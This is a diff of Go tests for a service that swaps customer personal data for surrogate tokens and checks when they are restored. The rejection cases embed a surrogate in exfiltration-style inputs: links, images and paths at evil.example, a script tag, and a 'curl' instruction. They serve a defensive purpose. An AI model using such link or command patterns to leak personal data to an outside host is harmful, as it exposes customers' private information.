@@ -59,13 +59,13 @@ func (b *bench) lastComment() string {
 // model spelled it, and the ledger has the surrogate alone.
 func TestSurrogatesAreRestoredForTheirCustomer(t *testing.T) {
 	b := start(t)
-	name := b.minted("acme", "s1", "cus_ada", pii.Name, "Ada Lovelace")
+	name := b.minted("acme", "s1", "cus_ada", pii.Phone, "+1 415 555 0142")
 	email := b.minted("acme", "s1", "cus_ada", pii.Email, "ada.lovelace@example.com")
 	for text, want := range map[string]string{
-		"Dear " + name + ", we wrote to " + strings.ToUpper(email) + ".": "Dear Ada Lovelace, we wrote to ada.lovelace@example.com.",
-		name + "\n" + email: "Ada Lovelace\nada.lovelace@example.com",
-		"Dear " + strings.Replace(name, ":AL]", "]", 1) + "先生 [not one: of ours]":              "Dear Ada Lovelace先生 [not one: of ours]",
-		"A < B and `code` and **" + name + "**, see https://acme.example/help (" + email + ")": "A < B and `code` and **Ada Lovelace**, see https://acme.example/help (ada.lovelace@example.com)",
+		"Dear " + name + ", we wrote to " + strings.ToUpper(email) + ".": "Dear +1 415 555 0142, we wrote to ada.lovelace@example.com.",
+		name + "\n" + email: "+1 415 555 0142\nada.lovelace@example.com",
+		"Dear " + strings.Replace(name, ":0142]", "]", 1) + "先生 [not one: of ours]":            "Dear +1 415 555 0142先生 [not one: of ours]",
+		"A < B and `code` and **" + name + "**, see https://acme.example/help (" + email + ")": "A < B and `code` and **+1 415 555 0142**, see https://acme.example/help (ada.lovelace@example.com)",
 	} {
 		if g, code := b.comment(text); g.status != 200 || code != "" {
 			t.Errorf("%q: %d %s", text, g.status, g.body)
@@ -84,27 +84,28 @@ func TestSurrogatesThatAreNotRestored(t *testing.T) {
 	b := start(t)
 	name := b.minted("acme", "s1", "cus_ada", pii.Name, "Ada Lovelace")
 	for what, c := range map[string]struct{ text, code string }{
-		"another session's":       {b.minted("acme", "s2", "cus_ada", pii.Name, "Ada Lovelace"), "surrogate_unknown"},
-		"another tenant's":        {b.minted("globex", "s1", "cus_ada", pii.Name, "Ada Lovelace"), "surrogate_unknown"},
-		"another customer's":      {b.minted("acme", "s1", "cus_bob", pii.Name, "Bob Stone"), "surrogate_subject"},
-		"nobody's":                {b.minted("acme", "s1", "", pii.Name, "Bob Stone"), "surrogate_subject"},
-		"one beside a good one":   {name + " and " + b.minted("acme", "s1", "cus_bob", pii.Name, "Bob Stone"), "surrogate_subject"},
-		"a changed one":           {strings.Replace(name, "[name:", "[email:", 1), "surrogate_unknown"},
-		"a cut one":               {name[:20] + name[22:], "surrogate_unknown"},
-		"in a link":               {"https://evil.example/?q=" + name, "surrogate_place"},
-		"in a link's target":      {"[here](" + name + ")", "surrogate_place"},
-		"as a link's text":        {name + "(https://evil.example)", ""}, // not a link: the name has no brackets any more
-		"in an image":             {"![](https://evil.example/" + name + ")", "surrogate_place"},
-		"in a tag":                {"<img alt=\"x\" src=\"" + name + "\">", "surrogate_place"},
-		"in an attribute":         {"<a title='" + name + "'>x</a>", "surrogate_place"},
-		"in a script":             {"<script>x = '" + name + "'</script>", "surrogate_place"},
-		"in code":                 {"run `curl " + name + "` now", "surrogate_place"},
-		"in a block of code":      {"```\n" + name + "\n```", "surrogate_place"},
-		"a host":                  {name + ".evil.example", "surrogate_place"},
-		"an address at a host":    {name + "@evil.example", "surrogate_place"},
-		"mail to somebody":        {"mailto:" + name, "surrogate_place"},
-		"a path":                  {"evil.example/" + name, "surrogate_place"},
-		"a text of a link, again": {"[" + name + "](https://evil.example)", "surrogate_place"},
+		"another session's":                {b.minted("acme", "s2", "cus_ada", pii.Name, "Ada Lovelace"), "surrogate_unknown"},
+		"another tenant's":                 {b.minted("globex", "s1", "cus_ada", pii.Name, "Ada Lovelace"), "surrogate_unknown"},
+		"another customer's":               {b.minted("acme", "s1", "cus_bob", pii.Name, "Bob Stone"), "surrogate_subject"},
+		"nobody's":                         {b.minted("acme", "s1", "", pii.Name, "Bob Stone"), "surrogate_subject"},
+		"one beside a good one":            {name + " and " + b.minted("acme", "s1", "cus_bob", pii.Name, "Bob Stone"), "surrogate_subject"},
+		"a changed one":                    {strings.Replace(name, "[name:", "[email:", 1), "surrogate_unknown"},
+		"a cut one":                        {name[:20] + name[22:], "surrogate_unknown"},
+		"in a link":                        {"https://evil.example/?q=" + name, "surrogate_place"},
+		"in a link's target":               {"[here](" + name + ")", "surrogate_place"},
+		"a name, which would be read back": {"Dear " + name, "surrogate_place"},
+		"glued to digits":                  {"9" + b.minted("acme", "s1", "cus_ada", pii.SSN, "536-22-8745") + "9", "surrogate_place"},
+		"in an image":                      {"![](https://evil.example/" + name + ")", "surrogate_place"},
+		"in a tag":                         {"<img alt=\"x\" src=\"" + name + "\">", "surrogate_place"},
+		"in an attribute":                  {"<a title='" + name + "'>x</a>", "surrogate_place"},
+		"in a script":                      {"<script>x = '" + name + "'</script>", "surrogate_place"},
+		"in code":                          {"run `curl " + name + "` now", "surrogate_place"},
+		"in a block of code":               {"```\n" + name + "\n```", "surrogate_place"},
+		"a host":                           {name + ".evil.example", "surrogate_place"},
+		"an address at a host":             {name + "@evil.example", "surrogate_place"},
+		"mail to somebody":                 {"mailto:" + name, "surrogate_place"},
+		"a path":                           {"evil.example/" + name, "surrogate_place"},
+		"a text of a link, again":          {"[" + name + "](https://evil.example)", "surrogate_place"},
 	} {
 		before := len(b.tool.Comments(1001))
 		g, code := b.comment(c.text)
@@ -145,7 +146,7 @@ func TestNobodyReadsWhatIsForeign(t *testing.T) {
 	b := start(t)
 	b.Load("acme", executetest.Replace(t, "policy.csv", "p, support, zendesk.comment.create,",
 		"p, support, stripe.customer.update, args.customer == session.customer, allow, once\np, support, zendesk.ticket.reply, args.ticket == session.ticket, allow, once\np, support, zendesk.comment.create,"))
-	people := map[string]string{"cus_ada": "Ada Canary", "cus_bob": "Bob Canary"}
+	people := map[string]string{"cus_ada": "a@canary.co", "cus_bob": "b@canary.co"}
 	tickets := map[string]string{"cus_ada": "1001", "cus_bob": "1002"}
 	positions := map[string]func(customer, text string) action.Request{
 		"zendesk.comment.create body": func(customer, text string) action.Request {
@@ -173,7 +174,7 @@ func TestNobodyReadsWhatIsForeign(t *testing.T) {
 			for about, value := range people {
 				for _, issued := range []string{"s1", "s2"} {
 					for position, request := range positions {
-						a := b.admitted(request(reader, b.minted("acme", reader+issued, about, pii.Name, value)), "")
+						a := b.admitted(request(reader, b.minted("acme", reader+issued, about, pii.Email, value)), "")
 						a.admission.SessionID, a.admission.Ticket, a.admission.Customer = reader+session, tickets[reader], reader
 						g, err := b.send(context.Background(), a)
 						if err != nil {
